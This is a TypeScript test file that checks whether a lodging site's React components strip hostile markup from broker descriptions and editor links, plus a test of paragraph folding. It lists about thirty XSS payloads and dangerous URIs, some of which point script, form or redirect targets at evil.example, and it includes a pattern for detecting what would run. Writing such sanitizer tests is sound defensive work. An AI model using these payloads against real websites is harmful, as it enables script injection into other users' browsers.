import fc from 'fast-check'
import { createElement } from 'react'
import { renderToStaticMarkup } from 'react-dom/server'
import { expect, test } from 'vitest'
import { BrokerHtml } from '../../../src/features/lodging/house-details.tsx'
import { RichTextBody } from '../../../src/ui/rich-text.tsx'

/** What would run, load or lead somewhere by itself, read as a browser reads tags. */
function hostileParts(html: string): string[] {
  const tags = html.match(/<[^>]*>/g) ?? []
  return tags.filter((tag) => {
    if (
      !/^<\/?(div|p|br|b|strong|i|em|ul|ol|li|h[2-6]|a|u|code|blockquote|hr|table|tbody|tr|td|th|sup|sub)\b/i.test(tag)
    )
      return true
    const attributes = tag.replace(/"[^"]*"/g, '""')
    if (/[\s/"](on\w+|style|src|srcset|formaction|xlink:href|srcdoc)\s*=/i.test(attributes)) return true
    const href = /\shref="([^"]*)"/i.exec(tag)?.[1]
    return href !== undefined && !/^(https:\/\/|\/(?![/\\])|#|mailto:|tel:)/.test(href)
  })
}

const hostile = [
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<SCRIPT SRC=//evil.example/x.js>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<p onmouseover=alert(1)>x</p>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href=" &#x6A;avascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="https://evil.example/" onclick="alert(1)">x</a>',
  '<a href=https://evil.example/"onclick=alert(1)>x</a>',
  '<a href="//evil.example/">x</a>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<form action=//evil.example><input name=q></form>',
  '<base href=//evil.example/>',
  '<meta http-equiv=refresh content="0;url=//evil.example/">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<template><img src=x onerror=alert(1)></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[><img src=x onerror=alert(1)>]]>',
  '<p/onmouseover=alert(1)//',
  '<p\u0000onmouseover=alert(1)>',
  '</div></main><script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
]

test.each(hostile)('of a description with %s nothing is left that runs', (html) => {
  expect(
    hostileParts(renderToStaticMarkup(createElement(BrokerHtml, { html: `<p>Hus</p>${html}<p>ved havet</p>` }))),
  ).toEqual([])
})

test('whatever hostile pieces a description is put together from, nothing is left that runs', () => {
  const pieces = [...hostile.flatMap((text) => text.split(/(?<=[<>"=/\s])/)), ...hostile]
  fc.assert(
    fc.property(fc.array(fc.constantFrom(...new Set(pieces)), { maxLength: 12 }), (parts) => {
      expect(hostileParts(renderToStaticMarkup(createElement(BrokerHtml, { html: parts.join('') })))).toEqual([])
    }),
    { numRuns: 2_000 },
  )
})

test.each([
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  'java\nscript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:x',
  '//evil.example/',
  '/\\evil.example/',
  '/\t/evil.example/',
  'http://evil.example/',
])('an editor’s link to %j is drawn as its words', (uri) => {
  const words = { nodeType: 'text', value: '<b>vilkår</b>', marks: [], data: {} } as const
  const link = { nodeType: 'hyperlink', data: { uri }, content: [words] } as const
  const text = { nodeType: 'document', data: {}, content: [{ nodeType: 'paragraph', data: {}, content: [link] }] }
  // Of Contentful's own types only the shape counts here.
  const html = renderToStaticMarkup(RichTextBody({ text: text as never, links: { entries: {}, assets: {} } }))
  expect(html).toContain('&lt;b&gt;vilkår&lt;/b&gt;')
  expect(html).not.toContain('<a')
})

test('Of a long first paragraph whole sentences are shown, and all the rest is folded', () => {
  const sentence = 'Huset ligger lunt bag klitterne med udsigt til heden og stien mod havet.'
  const paragraph = Array.from({ length: 8 }, () => sentence).join(' ')
  const shownOf = (html: string) => {
    const written = renderToStaticMarkup(createElement(BrokerHtml, { html, readOn: 'Mere' }))
    return written.split('<details').map((part) => part.split(sentence).length - 1)
  }
  expect(shownOf(`<p>${paragraph}</p>`)).toEqual([2, 6])
  // Neither within a tag nor after an abbreviation, and nothing short is folded.
  expect(shownOf(`<p><b>${paragraph}</b></p>`)).toEqual([8])
  expect(shownOf(`<p>${sentence} ${sentence}</p>`)).toEqual([2])
})
